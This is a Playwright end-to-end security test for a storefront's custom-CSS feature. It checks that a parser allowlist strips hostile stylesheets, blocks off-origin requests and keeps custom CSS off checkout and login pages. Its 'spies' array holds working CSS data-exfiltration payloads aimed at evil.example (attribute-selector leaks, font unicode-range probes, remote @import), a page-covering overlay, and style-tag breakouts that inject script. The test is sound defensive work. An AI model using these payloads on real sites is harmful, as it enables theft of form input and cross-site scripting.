import { expect } from 'playwright/test'
import { beginCheckout } from '../../e2e/fixtures/checkout-calls'
import { cornerStore } from '../../e2e/fixtures/corner-store'
import { hostOf, rawRequest } from '../../e2e/fixtures/raw-http'
import { hostileCss } from '../../tests/storefront/hostile-css'
import type { Attack } from './attack'
import { setTheme } from './fixtures/set-theme'

const spies = [
  'input[value^="a"]{background:url(//evil.example/a)}',
  'input[name=zip][value$="1"]{background-image:url("https://evil.example/1")}',
  '@font-face{font-family:leak;src:url(//evil.example/f);unicode-range:U+30}body{font-family:leak}',
  '@import "//evil.example/x.css";@import url(https://evil.example/y.css);',
  'a{background:image-set("https://evil.example/z" 1x)}a::after{content:url(//evil.example/c)}',
  'body::before{content:"";position:fixed;inset:0;z-index:99999;background:red}',
  '</style><script>window.attacked=1</script><style>',
  '<!--</style><img src=x onerror=window.attacked=1>',
]
const marker = '#c0ffee'
const stylesOf = (html: string) =>
  [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/gi)].map(([, css = '']) => css).join()

const count = (text: string, signs: RegExp) => text.match(signs)?.length ?? 0
const isBalanced = (text: string) =>
  count(text, /[([{]/g) < 20 &&
  count(text, /[([{]/g) === count(text, /[)\]}]/g) &&
  count(text, /"/g) % 2 === 0 &&
  count(text, /'/g) % 2 === 0

/**
 * As many styles per store as fit into its custom CSS, the worst first. Styles with unbalanced brackets, which swallow what
 * follows, and styles that exceed the size limit are tested with the parser.
 */
function sheetsOf(strings: readonly string[]): string[] {
  const some = strings.filter((text) => text.length < 2_000 && !text.includes('\u0000') && isBalanced(text))
  const each = 60
  return Array.from({ length: Math.ceil(some.length / each) }, (_, n) =>
    [...some.slice(n * each, (n + 1) * each), ...spies].join('\n'),
  )
}

export const customCss: Attack = {
  id: 'S17',
  attack: 'customCSS: `</style>`, `@import`, `url(//evil)`, `input[value^=a]`, fixed overlay, escapes, 1 MB',
  expected: 'dropped by the parser’s allowlist; 0 off-origin requests; not loaded on checkout/login/track',
  asvs: '1.3.5',
  run: async ({ testApp, browser, openShop, pickByRunMode }) => {
    await expect(
      setTheme(testApp, (await openShop()).slug, { styles: { customCSS: 'a{}'.repeat(350_000) } }),
    ).rejects.toThrow(/responded with 4\d\d/)
    const context = await browser.newContext()
    const foreign: string[] = []
    context.on('request', (request) => {
      if (!/^(?:data:|http:\/\/[^/]+\.localhost[:/])/.test(request.url())) foreign.push(request.url())
    })
    const page = await context.newPage()
    const paths = ['/', '/listing/corner-tee', '/goods', '/cart', '/search', '/about'].slice(0, pickByRunMode(6, 2))
    const sheets = sheetsOf(hostileCss).slice(0, pickByRunMode(1_000, 3))
    let slug = ''
    for (const sheet of sheets) {
      const customCSS = `h1{color:${marker}}${sheet}`
      const shop = await openShop(cornerStore({ theme: { styles: { customCSS } } }))
      slug = shop.slug
      for (const path of paths) {
        await page.goto(shop.url + path)
        await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
        expect(await page.evaluate(() => 'attacked' in window), path).toBe(false)
        const covered = await page.evaluate(() => {
          const before = getComputedStyle(document.body, '::before')
          return before.position === 'fixed' && before.content !== 'none'
        })
        expect(covered, path).toBe(false)
        const css = stylesOf(await page.content())
        // The harmless rules are present, so the hostile rules were parsed and removed.
        expect(css, path).toContain(marker)
        // The style of the shop itself selects whole values.
        expect(css, path).not.toMatch(/@import|evil\.example|expression\(|javascript:|\[value[$*^|~]/i)
      }
    }
    await context.close()
    expect(foreign).toEqual([])

    const { cookie, id } = await beginCheckout({ testApp, slug })
    const host = hostOf(testApp, slug)
    const without = [`/checkout/${id}`, '/checkout/express', '/login', '/track']
    for (const path of without)
      expect((await rawRequest(testApp, { host, path, headers: { cookie } })).body, path).not.toMatch(
        /c0ffee|attacked=1/,
      )
    return {
      observed: `${sheets.length} hostile stylesheets on ${paths.length} pages each: 0 outbound requests, 0 executed; absent on ${without.length} pages`,
    }
  },
}
